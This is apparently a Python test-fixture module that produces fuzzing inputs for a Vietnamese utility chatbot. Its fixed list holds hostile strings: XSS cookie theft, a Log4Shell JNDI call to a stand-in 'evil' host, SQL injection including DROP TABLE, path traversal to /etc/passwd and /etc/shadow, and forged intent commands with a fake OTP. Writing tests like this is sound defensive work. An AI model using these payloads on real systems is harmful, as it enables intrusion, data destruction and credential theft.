"""Hostile and malformed inputs, generated from a seed (a failure is reproducible)."""

from __future__ import annotations

import json
import random
from typing import Any

DEMO_PHONE = "0905123456"

FIXED_TEXTS = [
    "",
    " ",
    "\n\n\n",
    "\x00",
    "\x00" * 100,
    "a\x1b[31mred\x1b[0m",
    "\u202eRTL override\u202c",
    "\u200b\u200c\u200d\ufeff",
    "😀" * 500,
    "👩‍👩‍👧‍👦🇻🇳⚡️🔌" * 50,
    "𝕻𝖔𝖜𝖊𝖗 𝖀𝖓𝖎𝖙",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}}{% raw %}",
    "${jndi:ldap://evil/x}",
    "%s%s%s%n%x",
    "{reason}{code}{0}",
    "' OR 1=1 --",
    "PC05TK0000123'; DROP TABLE requests; --",
    'PC05TK0000123" OR ""="',
    "1; SELECT pg_sleep(5)",
    "../../../../etc/passwd",
    "file:///etc/shadow",
    "/restart",
    "/session_start",
    '/inform{"request_code":"PC05TK0000123"}',
    '/sign_documents{"otp_code":"000000"}',
    "/human_handoff",
    "/faq/hotline",
    "/action_restart",
    '/track_request{"request_code":1}',
    f"số điện thoại của tôi là {DEMO_PHONE}, email an@example.com",
    "mã OTP 123456",
    "Nguyễn Văn An",
    "nguyen van an " * 200,
    "PC05TK" + "0" * 500,
    "pc05tk 000 0123" * 100,
    "Điện lực Tam Kỳ\u0301\u0301\u0301",
    "Ðiê\u0323n lư\u0323c",
    "\ud7ff\ue000\uffff",
]


def random_unicode(rng: random.Random, n: int) -> str:
    out = []
    for _ in range(n):
        cp = rng.choice(
            [
                rng.randrange(0x20, 0x7F),
                rng.randrange(0xA0, 0x2FFF),
                rng.randrange(0x1F300, 0x1FAFF),
                rng.randrange(0, 0x20),
                rng.randrange(0xE000, 0xFFFF),
                rng.randrange(0x10000, 0x10FFFF),
            ]
        )
        if not 0xD800 <= cp <= 0xDFFF:
            out.append(chr(cp))
    return "".join(out)


def hostile_texts(rng: random.Random, n: int, huge: int = 200_000) -> list[str]:
    texts = list(FIXED_TEXTS) + ["x" * 5_000, "ệ" * 20_000, "a " * (huge // 2)]
    while len(texts) < n:
        kind = rng.randrange(4)
        if kind == 0:
            texts.append(random_unicode(rng, rng.randrange(1, 300)))
        elif kind == 1:
            a, b = rng.sample(FIXED_TEXTS, 2)
            texts.append(a + " " + b)
        elif kind == 2:
            texts.append("".join(chr(rng.randrange(0, 32)) for _ in range(rng.randrange(1, 50))))
        else:
            texts.append(rng.choice(["xin chào ", "tra cứu ", "ký hồ sơ ", ""]) + random_unicode(rng, 20))
    return texts[:n]


WRONG_TYPES: list[Any] = [
    None,
    0,
    -1,
    2**70,
    1.5e308,
    True,
    [],
    ["a"],
    {},
    {"a": {"b": [1]}},
    "",
    "x" * 10_000,
]


def raw_bodies(rng: random.Random) -> list[bytes]:
    """Bodies that are not valid JSON, not UTF-8, or JSON of the wrong shape."""
    out: list[bytes] = [
        b"",
        b"{",
        b"}",
        b"null",
        b"[]",
        b"123",
        b'"text"',
        b"\xff\xfe\xfd",
        b"\x00" * 64,
        b'{"sender": "a", "message": "\xff\xfe"}',
        b'{"sender": "a", "message": "\\ud800"}',
        b'{"sender": "a", "message": "\\udc00\\ud800x"}',
        b"[" * 5000 + b"]" * 5000,
        b'{"a":' * 3000 + b"1" + b"}" * 3000,
        b'{"sender": "a", "message": 1e999}',
        b'{"sender": "a", "sender": "b", "message": "dup keys"}',
        b"<xml>not json</xml>",
        json.dumps({"message": "x" * 300_000}).encode(),
    ]
    out += [bytes(rng.randrange(256) for _ in range(rng.randrange(1, 200))) for _ in range(20)]
    return out
